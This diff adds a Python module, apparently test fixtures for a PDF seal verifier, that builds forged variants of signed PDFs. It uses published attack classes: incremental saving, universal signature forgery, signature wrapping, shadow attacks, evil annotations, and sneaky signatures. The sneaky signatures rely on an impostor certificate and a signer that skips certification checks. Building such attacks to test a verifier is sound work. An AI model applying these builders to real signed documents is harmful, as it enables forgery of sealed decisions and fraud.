@@ -1,0 +1,351 @@
+"""Attack files built from our own sealed PDFs, each named for what it does.
+
+The classes come from the PDF signature literature (Mladenov et al., "1 Trillion Dollar
+Refund", CCS 2019: incremental saving, universal signature forgery, signature wrapping;
+Mainka et al., "Shadow Attacks", NDSS 2021: hide, replace, hide-and-replace; Mladenov et
+al., "Breaking the Certification of PDFs", S&P 2021: evil annotation, sneaky signature).
+Every builder takes sealed bytes and returns attacked bytes, as an attacker holding the
+file would produce them; none needs a key of ours.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+from datetime import UTC, datetime, timedelta
+from functools import cache
+from typing import Any
+
+from asn1crypto import keys as asn1_keys
+from asn1crypto import x509 as asn1_x509
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.generic import pdf_name
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.pdf_utils.reader import PdfFileReader
+from pyhanko.sign.fields import SigFieldSpec
+from pyhanko.sign.signers import PdfSignatureMetadata, PdfSigner, SimpleSigner
+from pyhanko.stamp import TextStampStyle
+from pyhanko_certvalidator.registry import SimpleCertificateStore
+
+__all__ = [
+    "ATTACKS",
+    "shadow_document",
+]
+
+
+def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
+    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
+
+
+def _written(writer: IncrementalPdfFileWriter) -> bytes:
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _first_page(writer: IncrementalPdfFileWriter) -> Any:
+    """Page 1's indirect reference (indexing an array dereferences; raw_get does not)."""
+    return writer.root["/Pages"]["/Kids"].raw_get(0)
+
+
+def _stream(writer: IncrementalPdfFileWriter, data: bytes) -> Any:
+    return writer.add_object(generic.StreamObject(stream_data=data))
+
+
+def _signature_object(writer: IncrementalPdfFileWriter) -> tuple[Any, Any]:
+    """(field dict, /V indirect object) of the document's first signature."""
+    for field in writer.root["/AcroForm"]["/Fields"]:
+        field_dict = field.get_object()
+        value = field_dict.raw_get("/V") if "/V" in field_dict else None
+        if isinstance(value, generic.IndirectObject):
+            return field_dict, value
+    raise AssertionError("no signed field")
+
+
+# ---------------------------------------------------------------------- incremental saving
+
+
+def incremental_saving_new_content(pdf: bytes) -> bytes:
+    """A later revision paints over page 1 (a red block where the decision was)."""
+    writer = _writer(pdf)
+    writer.add_stream_to_page(0, _stream(writer, b"q 0.8 0 0 rg 72 560 450 120 re f Q"))
+    return _written(writer)
+
+
+def appended_objects_without_xref(pdf: bytes) -> bytes:
+    """Objects written after %%EOF with no cross-reference section (lenient readers may
+    still pick them up)."""
+    return pdf + (b"\n4 0 obj\n<< /Length 33 >>\nstream\nq 0.8 0 0 rg 0 0 595 842 re f Q\n"
+                  b"endstream\nendobj\n")
+
+
+# ---------------------------------------------------------------------- universal forgery
+
+
+def _in_place(pdf: bytes, pattern: bytes, replace: Any) -> bytes:
+    match = re.search(pattern, pdf)
+    assert match is not None, pattern
+    new = replace(match)
+    assert len(new) == match.end() - match.start()
+    return pdf[:match.start()] + new + pdf[match.end():]
+
+
+def contents_zeroed(pdf: bytes) -> bytes:
+    """USF: /Contents overwritten with zeros in place (no signature at all)."""
+    return _in_place(pdf, rb"/Contents\s*<([0-9a-fA-F]+)>",
+                     lambda m: m.group(0)[:m.start(1) - m.start(0)] + b"0" * len(m.group(1))
+                     + b">")
+
+
+def byterange_zeroed(pdf: bytes) -> bytes:
+    """USF: /ByteRange [0 0 0 0] in place (covers nothing)."""
+    return _in_place(pdf, rb"/ByteRange\s*\[[0-9 ]+\]",
+                     lambda m: b"/ByteRange [0 0 0 0]".ljust(len(m.group(0))))
+
+
+def _redefine_signature(pdf: bytes, change: Any) -> bytes:
+    writer = _writer(pdf)
+    _field, value = _signature_object(writer)
+    signature = value.get_object()
+    change(signature)
+    writer.mark_update(value)
+    return _written(writer)
+
+
+def contents_removed(pdf: bytes) -> bytes:
+    """USF: a later revision redefines the signature dictionary without /Contents."""
+    return _redefine_signature(pdf, lambda sig: sig.__delitem__("/Contents"))
+
+
+def contents_emptied(pdf: bytes) -> bytes:
+    """USF: a later revision sets /Contents to an empty string."""
+    return _redefine_signature(
+        pdf, lambda sig: sig.__setitem__("/Contents", generic.ByteStringObject(b"")))
+
+
+def byterange_removed(pdf: bytes) -> bytes:
+    """USF: a later revision redefines the signature dictionary without /ByteRange."""
+    return _redefine_signature(pdf, lambda sig: sig.__delitem__("/ByteRange"))
+
+
+# ---------------------------------------------------------------------- signature wrapping
+
+
+def signature_dictionary_moved(pdf: bytes) -> bytes:
+    """SWA: the signature dictionary, values unchanged, re-written in a later revision
+    together with new page content, so the signed ranges no longer end the revision that
+    holds the signature."""
+    writer = _writer(pdf)
+    _field, value = _signature_object(writer)
+    writer.mark_update(value)
+    writer.add_stream_to_page(0, _stream(writer, b"q 0 0 0.8 rg 72 300 200 40 re f Q"))
+    return _written(writer)
+
+
+def byterange_moved(pdf: bytes) -> bytes:
+    """SWA: the ranges shifted to cover a copy of the signed tail appended at the end, with
+    the real tail (and a malicious revision) left unsigned in a widened gap."""
+    match = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
+    assert match is not None
+    first, second, length = (int(group) for group in match.groups())
+    attacked = incremental_saving_new_content(pdf)
+    tail = pdf[second:second + length]
+    moved = len(attacked)
+    new_range = f"/ByteRange [0 {first} {moved} {length}]".encode()
+    width = match.end() - match.start()
+    assert len(new_range) <= width
+    head = attacked[:match.start()] + new_range.ljust(width) + attacked[match.end():]
+    return head + tail
+
+
+# ---------------------------------------------------------------------- shadow attacks
+
+
+@cache
+def shadow_document() -> bytes:
+    """What an applicant submits for sealing: page 1's decision text is covered by a
+    white form XObject (/Cover), and an unused alternative text sits in /Alt."""
+    import pikepdf
+
+    from ..signing.documents import approval_pdf
+
+    with pikepdf.open(io.BytesIO(approval_pdf(1))) as document:
+        page = document.pages[0]
+        cover = pikepdf.Stream(document, b"1 1 1 rg 60 540 480 150 re f")
+        cover["/Type"] = pikepdf.Name("/XObject")
+        cover["/Subtype"] = pikepdf.Name("/Form")
+        cover["/BBox"] = pikepdf.Array([0, 0, 595, 842])
+        alternative = pikepdf.Stream(document, b"0.8 0 0 rg 60 540 480 150 re f")
+        alternative["/Type"] = pikepdf.Name("/XObject")
+        alternative["/Subtype"] = pikepdf.Name("/Form")
+        alternative["/BBox"] = pikepdf.Array([0, 0, 595, 842])
+        resources = page.obj.get("/Resources")
+        xobjects = resources.get("/XObject") if "/XObject" in resources else pikepdf.Dictionary()
+        xobjects["/Cover"] = cover
+        xobjects["/Alt"] = alternative
+        resources["/XObject"] = xobjects
+        page.contents_add(pikepdf.Stream(document, b"q /Cover Do Q"), prepend=False)
+        out = io.BytesIO()
+        document.save(out)
+        return out.getvalue()
+
+
+def _page_xobject(writer: IncrementalPdfFileWriter, name: str) -> Any:
+    page = _first_page(writer).get_object()
+    return page["/Resources"]["/XObject"].raw_get(name)
+
+
+def shadow_hide(pdf: bytes) -> bytes:
+    """Shadow hide: the later revision empties the white cover, revealing what it hid."""
+    writer = _writer(pdf)
+    reference = _page_xobject(writer, "/Cover")
+    cover = reference.get_object()
+    cover.strip_filters()
+    cover._data = cover._encoded_data = b""  # the attacker rewrites the object's bytes
+    writer.mark_update(reference)
+    return _written(writer)
+
+
+def shadow_replace(pdf: bytes) -> bytes:
+    """Shadow replace: the later revision points the page's /Cover name at /Alt."""
+    writer = _writer(pdf)
+    page = _first_page(writer)
+    resources_ref = page.get_object().raw_get("/Resources")
+    resources = resources_ref.get_object()
+    xobjects_ref = resources.raw_get("/XObject")
+    xobjects = xobjects_ref.get_object()
+    xobjects[pdf_name("/Cover")] = xobjects.raw_get("/Alt")
+    for holder in (page, resources_ref, xobjects_ref):
+        if isinstance(holder, generic.IndirectObject):
+            writer.mark_update(holder)
+    return _written(writer)
+
+
+def shadow_hide_and_replace(pdf: bytes) -> bytes:
+    """Shadow hide-and-replace: the later revision gives page 1 new content streams."""
+    writer = _writer(pdf)
+    page = _first_page(writer)
+    page_dict = page.get_object()
+    page_dict[pdf_name("/Contents")] = _stream(
+        writer, b"BT /F1 40 Tf 100 600 Td (REPLACED) Tj ET")
+    writer.mark_update(page)
+    return _written(writer)
+
+
+# ---------------------------------------------------------------------- certification
+
+
+def evil_annotation(pdf: bytes) -> bytes:
+    """EAA: a FreeText annotation whose appearance covers the decision (annotations are
+    not what a certification with P=1 or P=2 permits)."""
+    writer = _writer(pdf)
+    page = _first_page(writer)
+    appearance = generic.StreamObject({
+        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
+        pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(0)] * 2
+                                               + [generic.NumberObject(450),
+                                                  generic.NumberObject(120)]),
+    }, stream_data=b"1 1 1 rg 0 0 450 120 re f")
+    annotation = generic.DictionaryObject({
+        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
+        pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v)
+                                                for v in (72, 560, 522, 680)]),
+        pdf_name("/Contents"): generic.TextStringObject("不予许可"),
+        pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
+        pdf_name("/F"): generic.NumberObject(4),
+        pdf_name("/AP"): generic.DictionaryObject({
+            pdf_name("/N"): writer.add_object(appearance)}),
+        pdf_name("/P"): page,
+    })
+    writer.register_annotation(page, writer.add_object(annotation))
+    return _written(writer)
+
+
+def page_added(pdf: bytes) -> bytes:
+    """A page appended after certification."""
+    writer = _writer(pdf)
+    new_page = generic.DictionaryObject({
+        pdf_name("/Type"): pdf_name("/Page"),
+        pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(v)
+                                                    for v in (0, 0, 595, 842)]),
+        pdf_name("/Contents"): _stream(writer, b"q 0.8 0 0 rg 72 600 450 120 re f Q"),
+        pdf_name("/Resources"): generic.DictionaryObject(),
+    })
+    writer.insert_page(new_page)
+    return _written(writer)
+
+
+@cache
+def impostor_signer(certificate_der: bytes) -> SimpleSigner:
+    """A self-made certificate with exactly the subject of a registered seal's."""
+    key = ec.generate_private_key(ec.SECP256R1())
+    name = x509.load_der_x509_certificate(certificate_der).subject
+    now = datetime.now(UTC)
+    certificate = (
+        x509.CertificateBuilder().subject_name(name).issuer_name(name)
+        .public_key(key.public_key()).serial_number(x509.random_serial_number())
+        .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
+        .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False,
+                                     False), critical=True)
+        .sign(key, hashes.SHA256()))
+    private = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
+                                serialization.NoEncryption())
+    return SimpleSigner(
+        signing_cert=asn1_x509.Certificate.load(
+            certificate.public_bytes(serialization.Encoding.DER)),
+        signing_key=asn1_keys.PrivateKeyInfo.load(private),
+        cert_registry=SimpleCertificateStore())
+
+
+class _CarelessSigner(PdfSigner):
+    """An attacker's tool: ignores the document's certification (DocMDP)."""
+
+    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
+        return None
+
+
+def _seal_certificate(pdf: bytes) -> bytes:
+    reader = PdfFileReader(io.BytesIO(pdf))
+    return bytes(reader.embedded_signatures[0].signer_cert.dump())
+
+
+def sneaky_signature(pdf: bytes) -> bytes:
+    """SSA: a new visible signature field whose appearance covers the decision, signed
+    with a self-made certificate carrying the seal's own name."""
+    signer = impostor_signer(_seal_certificate(pdf))
+    pdf_signer = _CarelessSigner(
+        PdfSignatureMetadata(field_name="Approval2"), signer,
+        stamp_style=TextStampStyle(stamp_text="APPROVED", border_width=0),
+        new_field_spec=SigFieldSpec("Approval2", on_page=0, box=(72, 560, 522, 680)))
+    return bytes(pdf_signer.sign_pdf(_writer(pdf)).getvalue())
+
+
+def impostor_second_signature(pdf: bytes) -> bytes:
+    """A second, invisible signature by a self-made certificate with the seal's name."""
+    signer = impostor_signer(_seal_certificate(pdf))
+    pdf_signer = _CarelessSigner(PdfSignatureMetadata(field_name="Seal_impostor"), signer,
+                                 new_field_spec=SigFieldSpec("Seal_impostor"))
+    return bytes(pdf_signer.sign_pdf(_writer(pdf)).getvalue())
+
+
+ATTACKS = {
+    "incremental_saving_new_content": incremental_saving_new_content,
+    "appended_objects_without_xref": appended_objects_without_xref,
+    "usf_contents_zeroed": contents_zeroed,
+    "usf_contents_removed": contents_removed,
+    "usf_contents_emptied": contents_emptied,
+    "usf_byterange_zeroed": byterange_zeroed,
+    "usf_byterange_removed": byterange_removed,
+    "swa_signature_dictionary_moved": signature_dictionary_moved,
+    "swa_byterange_moved": byterange_moved,
+    "shadow_hide": shadow_hide,
+    "shadow_replace": shadow_replace,
+    "shadow_hide_and_replace": shadow_hide_and_replace,
+    "evil_annotation": evil_annotation,
+    "sneaky_signature": sneaky_signature,
+    "page_added": page_added,
+    "impostor_second_signature": impostor_second_signature,
+}
